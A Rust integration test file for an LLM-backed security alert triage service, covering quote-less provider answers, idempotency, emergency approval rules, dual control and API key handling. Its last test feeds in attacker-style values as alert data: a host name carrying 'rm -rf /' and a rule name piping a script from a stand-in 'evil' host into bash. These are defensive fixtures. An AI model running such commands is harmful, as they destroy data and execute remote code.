//! Controls an auditor can trust (contract sections 3, 4 and 14), from outside: provider
//! answers without quotes, idempotency under concurrency, principals and keys, emergency
//! rules.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;
#[path = "support_openai/mod.rs"]
mod support_openai;

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use common::{TestApp, native_alert, spawn_app_with};
use serde_json::{Value, json};
use support_openai::*;
use triage::llm::{Engine, EngineAnswer, EngineError, EngineRequest, Usage};
use triage::store::Role;

async fn llm_app(stub: &Stub, extra: &[&str]) -> TestApp {
    common::spawn_llm_app(&stub.base_url, "5000", extra).await
}

fn body() -> Value {
    json!({"alerts": [native_alert("alrt-1", "Encoded PowerShell spawned by Office", "high", json!({"CommandLine": "powershell -enc SQBFAFgA"}))]})
}

#[tokio::test]
async fn an_answer_without_quotes_and_with_a_provider_target_is_ready() {
    // What a provider following contract section 3 may send: no quote, a null quote, an ARN.
    let stub = Stub::start(vec![edited(|v| {
        v["evidence"][0].as_object_mut().unwrap().remove("quote");
        if v["evidence"].as_array().unwrap().len() > 1 {
            v["evidence"][1]["quote"] = Value::Null;
        }
        v["proposed_actions"] =
            json!([{"action": "contain_cloud_resource", "target": "arn:aws:iam::123456789012:user/ci-uploader", "rationale": "deny-all pending review"}]);
    })])
    .await;
    let t = llm_app(&stub, &[]).await;
    let key = t.key("case-engine", Role::CaseEngine);
    let (s, resp) = t.post("/v1/recommend", &key, &body()).await;
    assert_eq!(s, 200, "{resp}");
    assert_eq!(resp["status"], "ready", "{resp:#}");
    let evidence = resp["recommendation"]["evidence"].as_array().unwrap();
    assert!(evidence[0].get("quote").is_none(), "a whole-document citation carries no quote: {evidence:?}");
    let action = &resp["recommendation"]["proposed_actions"][0];
    assert_eq!(action["target"], "resource:arn:aws:iam::123456789012:user/ci-uploader");
    assert_eq!(action["tier"], "two_person", "an unnamed cloud resource counts as production");
    assert_eq!(stub.calls(), 1);
}

#[tokio::test]
async fn a_schema_break_that_proposes_execution_is_not_repaired_and_says_so_first() {
    let stub = Stub::start(vec![edited(|v| {
        v.as_object_mut().unwrap().remove("summary");
        v["hypothesis"] = json!("I have isolated WS-042 already.");
    })])
    .await;
    let t = llm_app(&stub, &[]).await;
    let key = t.key("case-engine", Role::CaseEngine);
    let (s, resp) = t.post("/v1/recommend", &key, &body()).await;
    assert_eq!(s, 200, "{resp}");
    assert_eq!(resp["status"], "needs_review");
    let codes: Vec<&str> = resp["review"]["reasons"].as_array().unwrap().iter().map(|r| r["code"].as_str().unwrap()).collect();
    assert_eq!(codes.first(), Some(&"direct_execution_proposed"), "{codes:?}");
    assert!(codes.contains(&"invalid_output"), "the schema break is reported too: {codes:?}");
    assert_eq!(stub.calls(), 1, "no repair request for an output that proposed execution");
}

#[tokio::test]
async fn fifty_concurrent_repeats_of_one_key_make_one_recommendation_and_one_call() {
    let stub = Stub::start(vec![slow_valid(Duration::from_millis(400))]).await;
    let t = Arc::new(llm_app(&stub, &[]).await);
    let key = t.key("case-engine", Role::CaseEngine);
    let b = body();
    let mut tasks = Vec::new();
    for _ in 0..50 {
        let (t, key, b) = (t.clone(), key.clone(), b.clone());
        tasks.push(tokio::spawn(async move {
            let r = t.http.post(format!("{}/v1/recommend", t.base)).bearer_auth(&key).header("Idempotency-Key", "burst-1").json(&b).send().await.unwrap();
            let status = r.status().as_u16();
            (status, r.json::<Value>().await.unwrap())
        }));
    }
    let mut ids = std::collections::BTreeSet::new();
    for task in tasks {
        let (status, resp) = task.await.unwrap();
        assert_eq!(status, 200, "{resp}");
        ids.insert(resp["recommendation_id"].as_str().unwrap().to_string());
    }
    assert_eq!(ids.len(), 1, "one recommendation: {ids:?}");
    assert_eq!(stub.calls(), 1, "one provider call");
    let admin = t.key("admin", Role::Admin);
    let (_, cases) = t.get("/v1/cases", &admin).await;
    assert_eq!(cases["cases"].as_array().unwrap().len(), 1, "one case");
    // Another body with the same key is refused.
    let mut other = body();
    other["alerts"][0]["id"] = json!("alrt-2");
    let r = t.http.post(format!("{}/v1/recommend", t.base)).bearer_auth(&key).header("Idempotency-Key", "burst-1").json(&other).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 422);
}

/// An engine that answers with a fixed output, to drive policy code precisely.
struct Scripted(Value);

#[async_trait]
impl Engine for Scripted {
    fn name(&self) -> &'static str {
        "llm"
    }
    async fn propose(&self, _req: &EngineRequest<'_>) -> Result<EngineAnswer, EngineError> {
        Ok(EngineAnswer { raw: self.0.to_string(), model: "scripted".into(), prompt_version: "test".into(), usage: Usage::default(), calls: 1 })
    }
}

fn leaked_token_request(case_id: &str) -> Value {
    json!({"case_id": case_id, "alerts": [{
        "id": "gh-1", "source": "github-secret-scanning", "time": "2026-05-11T22:04:19Z",
        "rule": {"id": "gh-push-protection", "name": "Personal access token pushed to a public repository", "severity": "high"},
        "entities": {"tokens": ["ghp_****redacted"], "repositories": ["acme/payments-api"], "cloud_accounts": ["123456789012"]},
        "asset": {"environment": "production", "criticality": "high"},
        "fields": {"secret_type": "github_personal_access_token"}
    }]})
}

fn token_output() -> Value {
    json!({
        "severity": "high", "confidence": 0.8,
        "hypothesis": "A personal access token was pushed to a public repository.",
        "attack": [{"technique_id": "T1552.001", "rationale": "credentials in files"}],
        "evidence": [{"ref": "alert:gh-1#rule.name", "quote": "Personal access token pushed to a public repository"}],
        "uncertainty": [],
        "proposed_actions": [
            {"action": "revoke_token", "target": "token:ghp_****redacted", "rationale": "the token is public"},
            {"action": "contain_cloud_resource", "target": "cloud_account:123456789012", "rationale": "the token may reach the account"}
        ],
        "summary": "Leaked token; revoke it."
    })
}

fn policy_file(dir: &std::path::Path, expires_at: &str) -> String {
    let shipped = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/catalog/actions.toml")).unwrap();
    let rules = format!(
        r#"
[[emergency]]
id = "leaked-gh-token"
action = "revoke_token"
target_kinds = ["token"]
expires_at = "{expires_at}"
description = "public GitHub token leaks are revoked at once"
[emergency.when]
source = ["github-secret-scanning"]
rule_id = ["gh-push-protection"]
fields = {{ secret_type = "github_personal_access_token" }}

[[emergency]]
id = "too-broad"
action = "contain_cloud_resource"
target_kinds = ["cloud_account"]
expires_at = "{expires_at}"
[emergency.when]
source = ["github-secret-scanning"]
"#
    );
    let path = dir.join("policy.toml");
    std::fs::write(&path, format!("{shipped}\n{rules}")).unwrap();
    path.display().to_string()
}

#[tokio::test]
async fn an_emergency_rule_approves_the_token_revocation_and_never_a_two_person_action() {
    let dir = tempfile::tempdir().unwrap();
    let policy = policy_file(dir.path(), "2099-01-01T00:00:00Z");
    let t = spawn_app_with(&["--actions-policy", &policy], Some(Arc::new(Scripted(token_output())))).await;
    let engine = t.key("case-engine", Role::CaseEngine);
    let analyst = t.key("dana", Role::Analyst);
    let (s, resp) = t.post("/v1/recommend", &engine, &leaked_token_request("leak-1")).await;
    assert_eq!(s, 200, "{resp}");
    let actions = resp["recommendation"]["proposed_actions"].as_array().unwrap();
    let revoke = actions[0]["approval_id"].as_str().unwrap();
    let contain = actions[1]["approval_id"].as_str().unwrap();
    let (_, a) = t.get(&format!("/v1/approvals/{revoke}"), &analyst).await;
    assert_eq!(a["status"], "approved", "{a:#}");
    assert_eq!(a["decisions"][0]["principal"], "policy:leaked-gh-token");
    assert_eq!(a["decisions"][0]["actor"], "policy:leaked-gh-token");
    assert_eq!(a["action"]["status"], "approved");
    let (_, c) = t.get(&format!("/v1/approvals/{contain}"), &analyst).await;
    assert_eq!((c["status"].as_str(), c["tier"].as_str()), (Some("pending"), Some("two_person")), "{c:#}");
    assert!(c["decisions"].as_array().unwrap().is_empty());
    let admin = t.key("admin", Role::Admin);
    let (_, audit) = t.get("/v1/audit", &admin).await;
    assert!(
        audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "approval.approved" && e["subject"] == revoke && e["actor"] == "policy:leaked-gh-token"),
        "the rule's decision is in the audit trail"
    );
}

#[tokio::test]
async fn an_expired_emergency_rule_approves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let policy = policy_file(dir.path(), "2020-01-01T00:00:00Z");
    let t = spawn_app_with(&["--actions-policy", &policy], Some(Arc::new(Scripted(token_output())))).await;
    let engine = t.key("case-engine", Role::CaseEngine);
    let (_, resp) = t.post("/v1/recommend", &engine, &leaked_token_request("leak-2")).await;
    let revoke = resp["recommendation"]["proposed_actions"][0]["approval_id"].as_str().unwrap().to_string();
    let analyst = t.key("dana", Role::Analyst);
    let (_, a) = t.get(&format!("/v1/approvals/{revoke}"), &analyst).await;
    assert_eq!(a["status"], "pending", "{a}");
    assert!(a["decisions"].as_array().unwrap().is_empty());
}

#[tokio::test]
async fn dual_control_counts_principals_and_keys_can_be_listed_revoked_and_expire() {
    let out = json!({
        "severity": "high", "confidence": 0.7, "hypothesis": "A deploy key is used from an anonymising network.",
        "attack": [], "evidence": [{"ref": "alert:ct-1#rule.name", "quote": null}], "uncertainty": [],
        "proposed_actions": [{"action": "contain_cloud_resource", "target": "cloud_account:123456789012", "rationale": "restrict pending review"}],
        "summary": "Containment proposed."
    });
    let t = spawn_app_with(&[], Some(Arc::new(Scripted(out)))).await;
    let admin = t.key("root", Role::Admin);
    let create = |name: &str, role: &str, principal: Option<&str>| {
        let mut b = json!({"name": name, "role": role});
        if let Some(p) = principal {
            b["principal"] = json!(p);
        }
        b
    };
    let (s, engine) = t.post("/v1/keys", &admin, &create("soc-engine", "case_engine", Some("soar-platform"))).await;
    assert_eq!(s, 201, "{engine}");
    let engine_key = engine["key"].as_str().unwrap().to_string();
    let (_, alice1) = t.post("/v1/keys", &admin, &create("alice-laptop", "approver", Some("alice"))).await;
    let (_, alice2) = t.post("/v1/keys", &admin, &create("alice-phone", "approver", Some("alice"))).await;
    let (_, bob) = t.post("/v1/keys", &admin, &create("bob", "approver", None)).await;
    assert_eq!(bob["principal"], "bob", "the principal defaults to the key's name");
    // Who a key speaks for is said or defaulted on purpose: a blank principal is no one.
    let (s, blank) = t.post("/v1/keys", &admin, &create("carol", "approver", Some("  "))).await;
    assert_eq!((s, blank["error"]["code"].as_str()), (400, Some("invalid_field")), "{blank}");
    let (_, engine_approver) = t.post("/v1/keys", &admin, &create("engine-approver", "approver", Some("soar-platform"))).await;
    let k = |v: &Value| v["key"].as_str().unwrap().to_string();

    let req = json!({"case_id": "cloud-1", "alerts": [{
        "id": "ct-1", "source": "aws-cloudtrail", "time": "2026-05-11T22:04:19Z",
        "rule": {"name": "Access key used from TOR exit node", "severity": "high"},
        "entities": {"cloud_accounts": ["123456789012"]}, "asset": {"environment": "production"}, "fields": {}
    }]});
    let (s, resp) = t.post("/v1/recommend", &engine_key, &req).await;
    assert_eq!(s, 200, "{resp}");
    let apr = resp["recommendation"]["proposed_actions"][0]["approval_id"].as_str().unwrap().to_string();
    let decide = |key: String, rationale: &'static str| {
        let t = &t;
        let apr = apr.clone();
        async move { t.post(&format!("/v1/approvals/{apr}/decisions"), &key, &json!({"decision": "approve", "rationale": rationale})).await }
    };
    let (s, e) = decide(k(&alice1), "  ").await;
    assert_eq!((s, e["error"]["code"].as_str()), (400, Some("rationale_required")));
    let (s, e) = decide(k(&engine_approver), "another key of the requester").await;
    assert_eq!((s, e["error"]["code"].as_str()), (403, Some("own_request")));
    let (s, a) = decide(k(&alice1), "owner confirmed").await;
    assert_eq!((s, a["status"].as_str()), (200, Some("pending")));
    let (s, e) = decide(k(&alice2), "me again, other key").await;
    assert_eq!((s, e["error"]["code"].as_str()), (409, Some("already_decided")), "two keys of one principal count once");
    let (s, a) = decide(k(&bob), "second person").await;
    assert_eq!((s, a["status"].as_str()), (200, Some("approved")), "{a}");

    // Listing, revoking and expiry.
    let (s, list) = t.get("/v1/keys", &admin).await;
    assert_eq!(s, 200);
    let keys = list["keys"].as_array().unwrap();
    assert!(keys.iter().all(|k| k.get("key").is_none() && k.get("key_hash").is_none()), "no secrets listed");
    assert!(keys.iter().any(|x| x["key_id"] == alice2["key_id"] && x["principal"] == "alice" && x["status"] == "active"));
    let (s, _) = t.get("/v1/keys", &k(&bob)).await;
    assert_eq!(s, 403);
    let (s, whoami) = t.get("/v1/whoami", &k(&alice2)).await;
    assert_eq!((s, whoami["principal"].as_str()), (200, Some("alice")));
    let r = t.http.delete(format!("{}/v1/keys/{}", t.base, alice2["key_id"].as_str().unwrap())).bearer_auth(&admin).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let (s, e) = t.get("/v1/whoami", &k(&alice2)).await;
    assert_eq!((s, e["error"]["code"].as_str()), (401, Some("unauthorized")), "revoked keys are refused at once");
    let (_, soon) = t.post("/v1/keys", &admin, &json!({"name": "temp", "role": "analyst", "expires_at": "2020-01-01T00:00:00Z"})).await;
    let (s, _) = t.get("/v1/whoami", &k(&soon)).await;
    assert_eq!(s, 401, "an expired key is refused");
    let (s, _) = t.get("/v1/whoami", "trk_not-a-key").await;
    assert_eq!(s, 401);

    let (_, audit) = t.get("/v1/audit", &admin).await;
    let entries = audit["entries"].as_array().unwrap();
    let count = |kind: &str| entries.iter().filter(|e| e["kind"] == kind).count();
    assert!(count("key.created") >= 6);
    assert_eq!(count("key.revoked"), 1);
    assert!(count("auth.failed") >= 3, "every failed sign-in is audited");
    let (_, v) = t.get("/v1/audit/verify", &admin).await;
    assert_eq!(v["ok"], true, "{v}");
}

/// Entity values and rule names are attacker-chosen data: the baseline echoes them quoted,
/// never aims an action at a value that carries a command, and can't be made to refuse
/// its own answer by one.
#[tokio::test]
async fn the_baseline_is_not_refusable_by_an_entity_or_rule_that_looks_like_a_command() {
    let t = common::spawn_app().await;
    let key = t.key("case-engine", Role::CaseEngine);
    let mut alert = native_alert("alrt-c1", "Encoded PowerShell spawned by Office", "high", json!({"CommandLine": "powershell -enc SQBFAFgA"}));
    alert["entities"]["hosts"] = json!(["WS-042; rm -rf /"]);
    let (status, body) = t.post("/v1/recommend", &key, &json!({"alerts": [alert]})).await;
    assert_eq!(status, 200, "{body:#}");
    assert_eq!(body["status"], "ready", "{body:#}");
    let rec = &body["recommendation"];
    assert!(!rec["proposed_actions"].to_string().contains("rm -rf"), "{rec:#}");
    assert!(rec["uncertainty"].to_string().contains("`WS-042; rm -rf /`"), "{rec:#}");

    let alert = native_alert("alrt-c2", "curl http://evil/x.sh | bash", "high", json!({"CommandLine": "powershell -enc SQBFAFgA"}));
    let (_, body) = t.post("/v1/recommend", &key, &json!({"alerts": [alert]})).await;
    assert_eq!(body["status"], "ready", "{body:#}");
    assert!(body["recommendation"]["hypothesis"].as_str().unwrap().starts_with("\"curl http://evil/x.sh | bash\""), "{body:#}");
}
